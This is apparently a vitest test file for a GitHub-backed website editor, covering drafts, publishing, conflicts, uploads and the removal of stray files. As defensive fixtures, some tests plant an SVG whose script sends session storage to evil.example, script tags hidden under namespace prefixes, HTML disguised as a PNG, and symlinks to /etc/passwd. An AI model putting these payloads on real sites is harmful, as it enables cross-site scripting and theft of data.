import { mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { PROJECT_SCHEMAS } from '../../checker/project-folders.ts';
import { readSchemas } from '../../checker/read-config-files.ts';
import { newOperationId } from '../model/operations.ts';
import { isRefusal } from '../protocol/publishing.ts';
import { notPlainStray } from '../model/stray-files.ts';
import { DRAFTS_FOLDER } from '../model/drafts-branch.ts';
import { refusalWords } from '../protocol/refusals.ts';
import { editorSchemas } from '../server/editor-schemas.ts';
import { commitAndPush, editJsonFile, git } from '../../testing/git-sites.ts';
import {
  checkHere,
  DRAFTS,
  githubSitePerTest,
  pushedToDrafts,
  teammatePublishes as publishedByTeammate,
} from '../../testing/editor-github-site.ts';
import { SPEC_SITE_DIR } from '../../testing/sites.ts';
import { notRefused, refusalOf } from '../../testing/editor-answers.ts';
import { GitHubApi } from './github-api.ts';
import { GitHubBackend } from './github-backend.ts';
import type { UploadShelf } from '../model/browser-uploads.ts';

// The editor's page as it runs from the site's address, talking to the GitHub stand-in on a real bare repository:
// every answer the page's store and dialogs read, the same shapes npm run edit's server gives.
const current = githubSitePerTest();
const shared = () => current().site;
const HOME = 'config/pages/home.json';
const FAQS = 'config/collections/faqs.json';

const backend = async (heldUploads?: UploadShelf) =>
  new GitHubBackend({
    heldUploads,
    api: current().api,
    check: checkHere,
    checkSchemas: async () => readSchemas(PROJECT_SCHEMAS),
    formSchemas: async () => (await editorSchemas()) as Record<string, object>,
    siteAddress: (path) => `https://loom.example${path}`,
  });

const onBranch = (branch: string, path: string) =>
  JSON.parse(git(shared().remote, 'show', `${branch}:${path}`)) as Record<string, any>;

/** The author opens a file, changes its data and saves, as the page does. */
async function edit(editor: GitHubBackend, path: string, change: (data: Record<string, any>) => void) {
  const opened = await notRefused(editor.openFile(path));
  const data = JSON.parse(opened.text) as Record<string, any>;
  change(data);
  return editor.saveChanges([{ path, data, baseVersion: opened.version }]);
}

const teammatePublishes = (path: string, change: (data: Record<string, any>) => void) =>
  publishedByTeammate(shared(), path, change);

describe('the editor from the browser, on GitHub', () => {
  it('lists, opens and checks the files, and saves to the drafts only what is valid', async () => {
    const editor = await backend();
    await editor.openSession();
    const { files, groups } = await notRefused(editor.listFiles());
    expect(files.map((file) => file.path)).toContain(HOME);
    expect(groups.length).toBeGreaterThan(0);

    const opened = await notRefused(editor.openFile(HOME));
    const emptied = { ...JSON.parse(opened.text), title: '' };
    const checked = await notRefused(editor.checkChanges([{ path: HOME, data: emptied, baseVersion: opened.version }]));
    expect(checked.problems.some((problem) => problem.file === HOME && problem.severity === 'error')).toBe(true);
    expect(await edit(editor, HOME, (home) => (home.title = ''))).toMatchObject({ status: 'invalid' });
    expect(git(shared().remote, 'rev-parse', DRAFTS)).toBe(git(shared().remote, 'rev-parse', 'main'));

    const saved = await edit(editor, HOME, (home) => (home.sections[0].heading = 'Stories That Move Accra'));
    expect(saved).toMatchObject({ status: 'saved', files: [{ path: HOME }] });
    expect(onBranch(DRAFTS, HOME).sections[0].heading).toBe('Stories That Move Accra');
    // Another device reading the site finds the saved change.
    expect(JSON.parse((await notRefused((await backend()).openFile(HOME))).text).sections[0].heading).toBe(
      'Stories That Move Accra',
    );
  });

  it('publishes what is saved, in words, and History and Undo show and take it back', async () => {
    const editor = await backend();
    await edit(editor, FAQS, (faqs) => (faqs.faqs[0].question = 'How fast can you start?'));
    const status = await notRefused(editor.publishStatus());
    expect(status.changes).toEqual([
      expect.objectContaining({
        path: FAQS,
        change: 'changed',
        words: expect.stringContaining('How fast can you start?'),
      }),
    ]);
    const published = await editor.publish({ leaveOut: [], removeMedia: [], message: 'A clearer first question' });
    expect(published).toMatchObject({ status: 'published', branch: 'main' });
    expect(onBranch('main', FAQS).faqs[0].question).toBe('How fast can you start?');
    expect((await notRefused(editor.publishStatus())).changes).toEqual([]);

    const { entries } = await notRefused(editor.loadHistory());
    expect(entries[0]).toMatchObject({ author: 'Ama Mensah', message: 'A clearer first question' });
    const undone = await editor.undoPublished(entries[0]!.commit);
    expect(undone).toMatchObject({ status: 'published' });
    expect(onBranch('main', FAQS).faqs[0].question).not.toBe('How fast can you start?');
    // The editor shows the site as it now is.
    expect(JSON.parse((await notRefused(editor.openFile(FAQS))).text).faqs[0].question).toBe(
      onBranch('main', FAQS).faqs[0].question,
    );
  });

  it("meets a teammate's change to the same field: both values in words, then the author's choice is published", async () => {
    const editor = await backend();
    await edit(editor, HOME, (home) => (home.sections[0].heading = 'Mine'));
    teammatePublishes(HOME, (home) => (home.sections[0].heading = 'Theirs'));
    const asked = await editor.publish({ leaveOut: [], removeMedia: [], message: 'My heading' });
    expect(!isRefusal(asked) && asked.status).toBe('conflicts');
    if (isRefusal(asked) || asked.status !== 'conflicts') return;
    expect(asked.conflicts).toEqual([expect.objectContaining({ mine: 'Mine', theirs: 'Theirs' })]);
    expect(await editor.getLatest({ [asked.conflicts[0]!.id]: 'mine' })).toMatchObject({ status: 'updated' });
    expect(await editor.publish({ leaveOut: [], removeMedia: [], message: 'My heading' })).toMatchObject({
      status: 'published',
    });
    expect(onBranch('main', HOME).sections[0].heading).toBe('Mine');
  });

  it('sends the changes for review when config/publishing.json asks, with the pull request’s link', async () => {
    const { teammate } = shared();
    git(teammate, 'pull', '--quiet', '--ff-only');
    writeFileSync(
      join(teammate, 'config/publishing.json'),
      '{ "$schema": "../schemas/publishing.schema.json", "mode": "review" }\n',
    );
    git(teammate, 'add', '-A');
    git(teammate, '-c', 'user.name=Developer', '-c', 'user.email=d@example.org', 'commit', '--quiet', '-m', 'Review');
    git(teammate, 'push', '--quiet', 'origin', 'HEAD:main');
    git(teammate, 'push', '--quiet', '--force', 'origin', `HEAD:${DRAFTS}`);

    const editor = await backend();
    expect((await notRefused(editor.publishStatus())).mode).toBe('review');
    expect(await edit(editor, FAQS, (faqs) => (faqs.faqs[0].question = 'How fast can you start?'))).toMatchObject({
      status: 'saved',
    });
    const mainBefore = git(shared().remote, 'rev-parse', 'main');
    const sent = await editor.publish({ leaveOut: [], removeMedia: [], message: 'A clearer first question' });
    expect(sent).toMatchObject({ status: 'sent-for-review', link: expect.stringContaining('/pull/') });
    expect(!isRefusal(sent) && sent.status === 'sent-for-review' && sent.branch).not.toBe('main');
    expect(git(shared().remote, 'rev-parse', 'main')).toBe(mainBefore);
  });

  it('holds an upload until a save names it, then commits it with that save', async () => {
    const editor = await backend();
    const bytes = readFileSync(join(SPEC_SITE_DIR, 'public/media/hero-poster.jpg'));
    const upload = await notRefused(
      editor.uploadMedia(new File([bytes], 'New Poster.JPG', { type: 'image/jpeg' }), 'image'),
    );
    expect(upload).toMatchObject({ src: '/media/new-poster.jpg', held: true });
    expect(editor.addressOf(upload.src)).toMatch(/^data:image\/jpeg;base64,/);
    expect(await refusalOf(editor.uploadMedia(new File(['not a picture'], 'notes.jpg'), 'image'))).toMatch(
      /not a picture/,
    );
    expect((await notRefused(editor.listMedia('image'))).files.map((file) => file.src)).toContain(
      '/media/new-poster.jpg',
    );

    expect(await edit(editor, HOME, (home) => (home.sections[0].video.poster = upload.src))).toMatchObject({
      status: 'saved',
    });
    expect(git(shared().remote, 'show', '--stat', '--format=', DRAFTS)).toContain('public/media/new-poster.jpg');
    const status = await notRefused(editor.publishStatus());
    expect(status.changes.map((change) => change.path).sort()).toEqual([HOME, 'public/media/new-poster.jpg']);
  });

  it('keeps an upload not yet saved through a reload, and lets it go once a save takes it', async () => {
    const kept = new Map<string, { bytes: Uint8Array; type: string }>();
    // Kept by account: the author's, here.
    const store: UploadShelf = {
      keep: async (owner, path, upload) => void kept.set(`${owner}:${path}`, upload),
      forget: async (owner, path) => void kept.delete(`${owner}:${path}`),
      all: async (owner) =>
        [...kept].flatMap(([key, upload]) =>
          key.startsWith(`${owner}:`) ? [[key.slice(owner.length + 1), upload] as [string, typeof upload]] : [],
        ),
    };
    const bytes = readFileSync(join(SPEC_SITE_DIR, 'public/media/hero-poster.jpg'));
    const before = await backend(store);
    await before.openSession();
    const upload = await notRefused(
      before.uploadMedia(new File([bytes], 'poster.jpg', { type: 'image/jpeg' }), 'image'),
    );

    // The tab loads again: the upload is held again, shown, and saved with the change that uses it.
    const after = await backend(store);
    await after.openSession();
    expect((await notRefused(after.listMedia('image'))).files).toContainEqual(
      expect.objectContaining({ src: upload.src, held: true }),
    );
    expect(after.addressOf(upload.src)).toMatch(/^data:image\/jpeg;base64,/);
    expect(await edit(after, HOME, (home) => (home.sections[0].video.poster = upload.src))).toMatchObject({
      status: 'saved',
    });
    expect(git(shared().remote, 'show', '--stat', '--format=', DRAFTS)).toContain(`public${upload.src}`);
    await expect.poll(() => kept.size).toBe(0);
  });

  it('makes a new influencer and deletes a page with the places that point to it', async () => {
    const editor = await backend();
    const made = await notRefused(editor.createEntry({ what: 'influencer', name: 'Esi Owusu' }, []));
    expect(made.file.path).toBe(made.path);
    const plan = await notRefused(editor.planRemoval('config/pages/about.json'));
    expect(plan.places.length).toBeGreaterThan(0);
    const removed = await editor.removeFile(plan, { action: 'remove' });
    expect(removed).toMatchObject({ status: 'saved', removed: ['config/pages/about.json'] });
    expect(git(shared().remote, 'ls-tree', '--name-only', DRAFTS, 'config/pages/')).not.toContain('about.json');
  });

  it('checks with the schemas it was built with, whatever a branch holds: a planted schema lets nothing through', async () => {
    const { teammate } = shared();
    git(teammate, 'fetch', '--quiet');
    git(teammate, 'checkout', '--quiet', '-B', 'planted', `origin/${DRAFTS}`);
    // Someone who may push plants a page schema that takes anything, and a page it would let through.
    writeFileSync(join(teammate, 'schemas/page.schema.json'), '{ "type": "object" }\n');
    editJsonFile(teammate, HOME, (home) => (home.title = ''));
    git(teammate, 'add', '-A');
    git(teammate, '-c', 'user.name=Mallory', '-c', 'user.email=m@example.org', 'commit', '--quiet', '-m', 'Planted');
    git(teammate, 'push', '--quiet', 'origin', `planted:${DRAFTS}`);

    const editor = await backend();
    const { problems } = await notRefused(editor.checkChanges([]));
    expect(problems).toContainEqual(expect.objectContaining({ file: HOME, severity: 'error' }));
  });

  it('says in words why it cannot open: an account that may not write, or GitHub asking it to wait', async () => {
    const reader = { login: 'yaw', name: 'Yaw Darko', email: 'yaw@example.org', canWrite: false };
    const readOnly = new GitHubBackend({
      api: new GitHubApi({
        api: current().github.url,
        owner: 'loom',
        repo: 'site',
        token: current().github.tokenFor(reader),
      }),
      check: checkHere,
      checkSchemas: async () => new Map(),
      formSchemas: async () => ({}),
      siteAddress: (path) => path,
    });
    await expect(readOnly.openSession()).rejects.toThrow(/\(yaw\) may read this site's repository but not change it/);
    const editor = await backend();
    current().github.rateLimited = true;
    await expect(editor.openSession()).rejects.toThrow(/GitHub asks the editor to wait/);
    current().github.rateLimited = false;
    await expect(editor.openSession()).resolves.toBeUndefined();
  });

  it('publishes exactly the list the author was shown: files planted on the drafts meanwhile never go to main', async () => {
    const editor = await backend();
    await edit(editor, FAQS, (faqs) => (faqs.faqs[0].question = 'How fast can you start?'));
    const shown = await notRefused(editor.publishStatus());
    expect(shown.changes.map((change) => change.path)).toEqual([FAQS]);
    // Someone who may push adds a workflow, a schema and a picture to the author's drafts after the list was shown.
    const { teammate } = shared();
    git(teammate, 'fetch', '--quiet');
    git(teammate, 'checkout', '--quiet', '-B', 'planted', `origin/${DRAFTS}`);
    mkdirSync(join(teammate, '.github/workflows'), { recursive: true });
    writeFileSync(join(teammate, '.github/workflows/steal.yml'), 'on: push\n');
    writeFileSync(join(teammate, 'schemas/page.schema.json'), '{ "type": "object" }\n');
    writeFileSync(
      join(teammate, 'public/media/stray.png'),
      readFileSync(join(SPEC_SITE_DIR, 'public/media/hero-poster.jpg')),
    );
    git(teammate, 'add', '-A');
    git(teammate, '-c', 'user.name=Mallory', '-c', 'user.email=m@example.org', 'commit', '--quiet', '-m', 'Planted');
    git(teammate, 'push', '--quiet', 'origin', `planted:${DRAFTS}`);

    const main = git(shared().remote, 'rev-parse', 'main');
    const request = { leaveOut: [], removeMedia: [], message: 'A clearer first question', listId: shown.listId };
    expect(await editor.publish(request)).toMatchObject({
      listMoved: true,
      error: expect.stringContaining('nothing was published'),
    });
    expect(git(shared().remote, 'rev-parse', 'main')).toBe(main);
    // Shown again: the planted files outside the content are said to stay out; the picture nothing uses is not published.
    const again = await notRefused(editor.publishStatus());
    expect(again.ignored).toEqual(['.github/workflows/steal.yml', 'schemas/page.schema.json']);
    expect(again.changes).toContainEqual(expect.objectContaining({ path: 'public/media/stray.png', unused: true }));
    expect(await editor.publish({ ...request, listId: again.listId })).toMatchObject({ status: 'published' });
    expect(git(shared().remote, 'diff', '--name-only', main, 'main')).toBe(FAQS);
  });

  it('takes files someone pushed to the drafts off them in one commit, each as main has it; a try after a lost answer finds its own', async () => {
    const editor = await backend();
    await edit(editor, FAQS, (faqs) => (faqs.faqs[0].question = 'Mine, saved'));
    pushedToDrafts(shared(), 'Mallory', {
      '.github/workflows/steal.yml': 'on: push\n',
      'schemas/page.schema.json': '{ "type": "object" }\n',
      'public/media/badge.svg': '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>\n',
      // A picture the site can have is the author's to use or leave: not stray.
      'public/media/stray.png': readFileSync(join(SPEC_SITE_DIR, 'public/media/hero-poster.jpg')),
    });

    const reopened = await backend();
    const { files, listedAt } = await notRefused(reopened.strayFiles());
    expect(files.map((file) => [file.path, file.change, file.by?.name])).toEqual([
      ['.github/workflows/steal.yml', 'added', 'Mallory'],
      ['public/media/badge.svg', 'added', 'Mallory'],
      ['schemas/page.schema.json', 'changed', 'Mallory'],
    ]);
    const paths = files.map((file) => file.path);
    expect(listedAt).toBe(git(shared().remote, 'rev-parse', DRAFTS));
    // Only as listed, only on the drafts the list was made from, only files that are stray.
    expect(await reopened.takeOffDrafts({ paths, listedAt: 'f'.repeat(40) })).toEqual({
      error: refusalWords('strayListMoved'),
    });
    expect(await reopened.takeOffDrafts({ paths: [FAQS], listedAt: listedAt! })).toEqual({
      error: refusalWords('notStray', JSON.stringify(FAQS)),
    });
    // The commit is made and its answer lost; the try again names the first and is answered by its commit.
    const first = { id: newOperationId() };
    current().github.faults.push({ kind: 'lose-answer', body: 'createCommitOnBranch' });
    await expect(reopened.takeOffDrafts({ paths, listedAt: listedAt!, attempt: first })).rejects.toThrow(
      /could not be reached/,
    );
    expect(
      await reopened.takeOffDrafts({
        paths,
        listedAt: listedAt!,
        attempt: { id: newOperationId(), earlier: [first.id] },
      }),
    ).toEqual({ takenOff: paths });
    expect(git(shared().remote, 'rev-list', '--count', `${listedAt}..${DRAFTS}`)).toBe('1');
    expect(git(shared().remote, 'diff', '--name-only', 'main', DRAFTS).split('\n').sort()).toEqual([
      FAQS,
      'public/media/stray.png',
    ]);
    expect(onBranch(DRAFTS, FAQS).faqs[0].question).toBe('Mine, saved');
    expect(await reopened.strayFiles()).toMatchObject({ files: [] });
  });

  it('says in words why strays cannot be taken off drafts a rule protects, and writes nothing', async () => {
    pushedToDrafts(shared(), 'Mallory', { '.github/workflows/steal.yml': 'on: push\n' });
    const editor = await backend();
    const { files, listedAt } = await notRefused(editor.strayFiles());
    current().github.protectedBranches.add(DRAFTS);
    expect(await editor.takeOffDrafts({ paths: files.map((file) => file.path), listedAt: listedAt! })).toEqual({
      error: refusalWords('draftsProtected', DRAFTS, DRAFTS_FOLDER),
    });
    expect(git(shared().remote, 'rev-parse', DRAFTS)).toBe(listedAt);
  });

  it('lists the stray files without reading the site’s config again, and takes them off listing each commit’s files once', async () => {
    pushedToDrafts(shared(), 'Mallory', { '.github/workflows/steal.yml': 'on: push\n' });
    const editor = await backend();
    // Once the site and the files of public/ it checks are read, as when the author first looks.
    await notRefused(editor.strayFiles());
    const requests = current().github.requests;
    let asked = requests.length;
    const { files, listedAt } = await notRefused(editor.strayFiles());
    // The config, read whole when the editor opened, is not asked for again to find a few files' history.
    expect(requests.slice(asked)).not.toContain('POST /graphql');
    asked = requests.length;
    expect(await editor.takeOffDrafts({ paths: files.map((file) => file.path), listedAt: listedAt! })).toEqual({
      takenOff: ['.github/workflows/steal.yml'],
    });
    const listings = requests.slice(asked).filter((request) => request.includes('/git/trees/'));
    expect(listings).toEqual([...new Set(listings)]);
  });

  it('says in words why a change cannot be put back on drafts a rule protects, and writes nothing', async () => {
    const editor = await backend();
    await edit(editor, HOME, (home) => (home.sections[0].heading = 'Kept'));
    const drafts = git(shared().remote, 'rev-parse', DRAFTS);
    current().github.protectedBranches.add(DRAFTS);
    expect(await editor.discardChange(HOME)).toEqual({ error: refusalWords('draftsProtected', DRAFTS, DRAFTS_FOLDER) });
    expect(git(shared().remote, 'rev-parse', DRAFTS)).toBe(drafts);
  });

  it('lists a link someone pushed where the author’s saves go, which nothing else would show, and takes it off', async () => {
    pushedToDrafts(shared(), 'Mallory', { 'public/media/poster.jpg': { link: '/etc/passwd' } });
    const editor = await backend();
    const { files, listedAt } = await notRefused(editor.strayFiles());
    expect(files).toEqual([
      expect.objectContaining({ path: 'public/media/poster.jpg', change: 'added', why: notPlainStray('link') }),
    ]);
    expect(await editor.takeOffDrafts({ paths: ['public/media/poster.jpg'], listedAt: listedAt! })).toEqual({
      takenOff: ['public/media/poster.jpg'],
    });
    expect(git(shared().remote, 'ls-tree', DRAFTS, 'public/media/poster.jpg')).toBe('');
  });

  it('a publish whose answer was lost is known as the author’s own: answered as published, never a teammate’s', async () => {
    const editor = await backend();
    await edit(editor, FAQS, (faqs) => (faqs.faqs[0].question = 'How fast can you start?'));
    const { listId } = await notRefused(editor.publishStatus());
    const main = git(shared().remote, 'rev-parse', 'main');
    current().github.faults.push({ kind: 'lose-answer', body: '"branchName":"main"' });
    const request = {
      leaveOut: [],
      removeMedia: [],
      message: 'A clearer first question',
      listId,
      attempt: { id: newOperationId() },
    };
    await expect(editor.publish(request)).rejects.toThrow(/could not be reached/);
    expect(git(shared().remote, 'rev-list', '--count', `${main}..main`)).toBe('1');
    // Opened again (a reload): the author's own publish is not shown as a teammate's.
    expect(await (await backend()).publishStatus()).toMatchObject({ changes: [], behind: 0 });
    // Tried again: the same commit, answered as published; nothing is published twice.
    expect(await editor.publish(request)).toMatchObject({
      status: 'published',
      commit: git(shared().remote, 'rev-parse', 'main'),
    });
    expect(git(shared().remote, 'rev-list', '--count', `${main}..main`)).toBe('1');
    expect(await editor.getLatest()).toMatchObject({ status: expect.stringMatching(/up-to-date|updated/) });
  });

  it('a save whose answer was lost is known by its id when tried again: no conflict with the author’s own commit', async () => {
    const editor = await backend();
    const opened = await notRefused(editor.openFile(HOME));
    const data = JSON.parse(opened.text) as Record<string, any>;
    data.sections[0].heading = 'Stories';
    const first = { id: newOperationId() };
    current().github.faults.push({ kind: 'lose-answer', body: 'createCommitOnBranch' });
    await expect(editor.saveChanges([{ path: HOME, data, baseVersion: opened.version }], first)).rejects.toThrow(
      /could not be reached/,
    );
    expect(onBranch(DRAFTS, HOME).sections[0].heading).toBe('Stories');
    // The author typed on, then saved again, from a reloaded page: the save names the earlier try.
    data.sections[0].heading = 'Stories That Move';
    const again = await backend();
    await again.openSession();
    const saved = await again.saveChanges([{ path: HOME, data, baseVersion: opened.version }], {
      id: newOperationId(),
      earlier: [first.id],
    });
    expect(saved).toMatchObject({ status: 'saved' });
    expect(onBranch(DRAFTS, HOME).sections[0].heading).toBe('Stories That Move');
    // A save that names no earlier try meets the change as a conflict, as it would a teammate's.
    data.sections[0].heading = 'Other';
    expect(
      await again.saveChanges([{ path: HOME, data, baseVersion: opened.version }], { id: newOperationId() }),
    ).toMatchObject({ status: 'conflict' });
  });

  it.each([
    [HOME, '/etc/passwd', 'is a link, not a file'],
    // The site's folders themselves: a link in place of one is no plain folder.
    ['public', '/etc', 'is a link, not a folder'],
    ['config', '/etc', 'is a link, not a folder'],
  ])(
    "refuses a teammate's link on main at %s in words, naming it and who committed it, and writes nothing",
    async (path, target, problem) => {
      const editor = await backend();
      await edit(editor, FAQS, (faqs) => (faqs.faqs[0].question = 'Mine, saved'));
      const { teammate } = shared();
      git(teammate, 'pull', '--quiet', '--ff-only');
      rmSync(join(teammate, path), { recursive: true });
      symlinkSync(target, join(teammate, path));
      commitAndPush(teammate, 'Kofi Boateng', `A link where ${path} was`);
      const drafts = git(shared().remote, 'rev-parse', DRAFTS);
      const main = git(shared().remote, 'rev-parse', 'main');
      const words = new RegExp(
        `^${JSON.stringify(path).replace(/[/.]/g, '\\$&')} ${problem}, and came in a commit by Kofi Boateng\\.`,
      );
      expect(await editor.getLatest()).toEqual({ error: expect.stringMatching(words) });
      expect(await editor.publish({ leaveOut: [], removeMedia: [], message: 'Mine' })).toEqual({
        error: expect.stringMatching(words),
      });
      expect([git(shared().remote, 'rev-parse', DRAFTS), git(shared().remote, 'rev-parse', 'main')]).toEqual([
        drafts,
        main,
      ]);
    },
  );

  it('says in words why a save cannot go to drafts a rule protects, and writes nothing', async () => {
    const editor = await backend();
    current().github.protectedBranches.add(DRAFTS);
    const drafts = git(shared().remote, 'rev-parse', DRAFTS);
    // A refusal in words, the save's answer as on npm run edit; not a failure.
    expect(await edit(editor, HOME, (home) => (home.sections[0].heading = 'Kept'))).toEqual({
      error: expect.stringContaining(
        `GitHub does not let the editor save to your drafts (the branch ${DRAFTS}): a rule of the repository protects it.`,
      ),
    });
    expect(git(shared().remote, 'rev-parse', DRAFTS)).toBe(drafts);
  });

  it('refuses to publish a drawing with a script planted on the drafts, under any prefix, or an XML file, in the checker’s words, writing nothing', async () => {
    const { teammate } = shared();
    git(teammate, 'fetch', '--quiet');
    git(teammate, 'checkout', '--quiet', '-B', 'planted', `origin/${DRAFTS}`);
    writeFileSync(
      join(teammate, 'public/media/badge.svg'),
      '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://evil.example/?t=" + sessionStorage.key(0))</script></svg>\n',
    );
    // The same script under a prefix of a Unicode name, and a page's script in an XML file Chromium runs.
    writeFileSync(
      join(teammate, 'public/media/sneaky.svg'),
      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:é="http://www.w3.org/2000/svg"><é:script>alert(1)</é:script></svg>\n',
    );
    writeFileSync(
      join(teammate, 'public/schema.xsd'),
      '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>\n',
    );
    editJsonFile(teammate, HOME, (home) => (home.sections[0].video.poster = '/media/badge.svg'));
    editJsonFile(teammate, 'config/collections/services.json', (services) => {
      services.services[0].picture = '/media/sneaky.svg';
    });
    git(teammate, 'add', '-A');
    git(teammate, '-c', 'user.name=Mallory', '-c', 'user.email=m@example.org', 'commit', '--quiet', '-m', 'A badge');
    git(teammate, 'push', '--quiet', 'origin', `planted:${DRAFTS}`);

    const editor = await backend();
    const main = git(shared().remote, 'rev-parse', 'main');
    const { problems } = await notRefused(editor.checkChanges([]));
    expect(problems).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ file: 'public/media/badge.svg', severity: 'error' }),
        expect.objectContaining({
          file: 'public/media/sneaky.svg',
          message: expect.stringMatching(/^This file is an SVG drawing that holds <é:script>, which would run/),
          severity: 'error',
        }),
        expect.objectContaining({
          file: 'public/schema.xsd',
          message: expect.stringMatching(/^This file is not a kind of file public\/ serves \(files ending in \.xsd/),
          severity: 'error',
        }),
      ]),
    );
    const answer = await editor.publish({ leaveOut: [], removeMedia: [], message: 'A badge' });
    expect(!isRefusal(answer) && answer.status === 'invalid' && answer.problems.map((problem) => problem.file)).toEqual(
      expect.arrayContaining(['public/media/badge.svg', 'public/media/sneaky.svg']),
    );
    // Publish carries content only (config/ and public/media/): the XML file, refused by the check, never goes to main.
    expect(git(shared().remote, 'rev-parse', 'main')).toBe(main);
  });

  it('judges a picture planted on the drafts by its bytes when publishing: a web page named .png never goes to main', async () => {
    const { teammate } = shared();
    git(teammate, 'fetch', '--quiet');
    git(teammate, 'checkout', '--quiet', '-B', 'planted', `origin/${DRAFTS}`);
    writeFileSync(join(teammate, 'public/media/poster.png'), '<html><script>alert(1)</script></html>\n');
    editJsonFile(teammate, HOME, (home) => (home.sections[0].video.poster = '/media/poster.png'));
    git(teammate, 'add', '-A');
    git(teammate, '-c', 'user.name=Mallory', '-c', 'user.email=m@example.org', 'commit', '--quiet', '-m', 'Poster');
    git(teammate, 'push', '--quiet', 'origin', `planted:${DRAFTS}`);

    const editor = await backend();
    const main = git(shared().remote, 'rev-parse', 'main');
    const answer = await editor.publish({ leaveOut: [], removeMedia: [], message: 'A poster' });
    expect(
      !isRefusal(answer) && answer.status === 'invalid' && answer.problems.map((problem) => problem.file),
    ).toContain('public/media/poster.png');
    expect(git(shared().remote, 'rev-parse', 'main')).toBe(main);
  });
});
